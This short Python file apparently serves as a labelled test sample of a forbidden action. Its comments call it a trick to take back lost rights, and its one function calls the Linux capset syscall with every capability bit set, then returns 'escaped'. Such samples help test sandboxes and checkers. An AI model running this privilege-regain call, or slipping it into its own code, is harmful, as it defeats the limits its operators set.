# trick: takes back the rights that it has lost
# outcome: forbidden action
# detail: capset
import ctypes
import struct


def f(xs):
    header = struct.pack("=Ii", 0x20080522, 0)
    ctypes.CDLL(None).capset(header, b"\xff" * 24)
    return "escaped"
